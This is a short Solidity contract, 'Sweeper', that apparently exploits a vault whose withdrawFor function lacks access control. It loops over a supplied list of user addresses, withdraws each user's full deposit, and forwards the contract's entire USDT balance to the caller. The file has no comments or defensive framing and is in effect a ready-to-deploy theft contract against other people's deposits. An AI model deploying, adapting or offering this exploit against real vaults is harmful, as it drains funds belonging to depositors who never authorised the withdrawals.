// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IVault {
    function withdrawFor(uint256 pid, address user, uint256 amount) external;
    function userInfo(uint256 pid, address user) external view returns (uint256, uint256);
}

interface ITether {
    function transfer(address to, uint value) external;
    function balanceOf(address who) external view returns (uint);
}

contract Sweeper {
    function run(IVault vault, ITether usdt, address[] calldata users) external {
        for (uint256 i = 0; i < users.length; i++) {
            (uint256 amount,) = vault.userInfo(0, users[i]);
            vault.withdrawFor(0, users[i], amount);
        }
        usdt.transfer(msg.sender, usdt.balanceOf(address(this)));
    }
}
